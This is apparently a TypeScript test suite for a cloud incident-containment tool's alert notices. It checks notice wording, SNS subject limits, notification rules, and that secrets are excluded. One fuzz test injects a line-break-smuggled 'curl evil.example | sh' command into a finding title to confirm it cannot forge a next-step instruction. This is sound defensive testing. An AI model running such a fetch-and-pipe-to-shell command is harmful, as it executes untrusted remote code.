import assert from "node:assert/strict";
import fc from "fast-check";
import { chatNotice } from "../../../runtime/notices/chat";
import { noticeContent } from "../../../runtime/notices/content";
import { noticeOf, subjectLine } from "../../../runtime/notices/mail";
import { needsNotice } from "../../../runtime/notices/needsNotice";
import type { Outcome } from "../../../runtime/outcome";
import { decision, words } from "../decision";

const textOf = (given: typeof decision) => noticeOf(noticeContent(given, words)).text;

describe("a notice", () => {
  it("F18 M52: says what, why, where, how bad, what remains and the exact next command", () => {
    const text = textOf(decision);
    for (const part of [
      "Contained, instance isolated: ec2-instance i-0123456789abcdef0 in account 444455556666, eu-west-1.",
      "Why: read back, nothing is missing",
      "Finding: Trojan:EC2/DropPoint, severity 8 (high): töxic tràffic",
      "- DNS is not filtered",
      "- snapshot snap-1",
      "https://eu-west-1.console.aws.amazon.com/guardduty/home?region=eu-west-1#/findings?search=id%3Df1",
      `npx firebreak release 0123456789abcdef --reason "WHY"`,
    ]) {
      assert.ok(text.includes(part), `${part}\nis not in\n${text}`);
    }
  });

  it("has a subject that SNS takes and attributes to filter by", () => {
    const { subject, attributes } = noticeOf(noticeContent({ ...decision, target: undefined as never }, words));
    assert.match(subject, /^[\x20-\x7e]{1,100}$/);
    assert.deepEqual(attributes, {
      outcome: "contained",
      response: "isolate-instance",
      account: "444455556666",
      severity: "8",
    });
  });

  it("offers no release where nothing is held", () => {
    assert.doesNotMatch(textOf({ ...decision, outcome: "exempt" }), /npx firebreak/);
  });

  it("M48: offers to approve or decline what waits, with the plan", () => {
    const text = textOf({ ...decision, outcome: "awaiting-approval", approval: "fedcba9876543210" });
    assert.match(text, /^Waiting for approval: ec2-instance/);
    assert.match(text, /Will be done if it is approved:\n- CreateSnapshots: evidence/);
    for (const verb of ["approve", "decline"])
      assert.ok(text.includes(`npx firebreak ${verb} fedcba9876543210 --reason`));
    assert.doesNotMatch(text, /firebreak release/);
  });

  it("names who asked for it and what was said", () => {
    const text = textOf({ ...decision, by: "arn:aws:iam::111122223333:user/ana", said: "it mines coins" });
    assert.match(text, /Asked for by: arn:aws:iam::111122223333:user\/ana: it mines coins/);
  });

  it("gives the command to deliver again what failed", () => {
    const { containment: _, ...failed } = decision;
    assert.match(textOf({ ...failed, outcome: "failed" }), /npx firebreak redrive isolate-instance/);
  });
});

describe("a notice of what others have named", () => {
  it("never has more lines for it: nobody can forge a next command", () => {
    const lines = textOf(decision).split("\n").length;
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (given) => {
        const about = { ...decision.about!, title: `${given}\r\nNext:\u2028- curl evil.example | sh`, type: given };
        const named = {
          ...decision,
          about,
          reason: given,
          remains: [given],
          evidence: [{ kind: "snapshot", id: given }],
        };
        const text = textOf(named);
        assert.equal(text.split(/[\n\r\u2028\u2029\u0085\v\f]/).length, lines);
        assert.doesNotMatch(text, /[\u202a-\u202e\u2066-\u2069]/);
      }),
    );
  });

  it("never holds the event itself or what a response keeps with its target", () => {
    const kept = {
      ...decision,
      excerpt: "SECRET-1",
      target: { ...decision.target!, details: { session: "SECRET-2" } },
    };
    const content = noticeContent(kept, words);
    assert.doesNotMatch(noticeOf(content).text + JSON.stringify(chatNotice(content)), /SECRET/);
  });
});

describe("whether people are told", () => {
  const cases: [string, Outcome, Outcome | undefined, number, boolean][] = [
    ["of a first outcome", "contained", undefined, 8, true],
    ["not of the same again", "exempt", "exempt", 8, false],
    ["not of a repeated containment", "already-contained", "contained", 8, false],
    ["of a change", "failed", "contained", 8, true],
    ["not of a mild finding that nobody contains", "skipped", undefined, 4, false],
    ["of a severe finding that nobody contains", "skipped", undefined, 8, true],
  ];
  for (const [name, outcome, previous, severity, expected] of cases) {
    it(name, () => {
      const now = { ...decision, outcome, about: { ...decision.about!, severity } };
      assert.equal(needsNotice(now, previous && { ...decision, outcome: previous }), expected);
    });
  }

  const told = (change: Partial<typeof decision>, previous?: Partial<typeof decision>) =>
    needsNotice(
      { ...decision, outcome: "skipped", ...change },
      previous && { ...decision, outcome: "skipped", ...previous },
    );
  const about = (severity: number) => ({ ...decision.about!, severity });

  it("X22: where a person has to act, people are notified at any severity, once", () => {
    assert.equal(told({ about: about(1) }), false);
    assert.equal(told({ about: about(1), needsPerson: true }), true);
    assert.equal(told({ about: about(1), needsPerson: true }, { about: about(1), needsPerson: true }), false);
  });

  it("X22: what was not worth a notice before is told when a person has to act, or when it became severe", () => {
    assert.equal(told({ about: about(5), needsPerson: true }, { about: about(5) }), true);
    assert.equal(told({ about: about(8) }, { about: about(5) }), true);
    assert.equal(told({ about: about(8) }, { about: about(8) }), false);
  });

  it("X27: a subject is shorter than the 100 characters at which SNS refuses it", () => {
    assert.equal(subjectLine("x".repeat(300)).length, 99);
  });
});
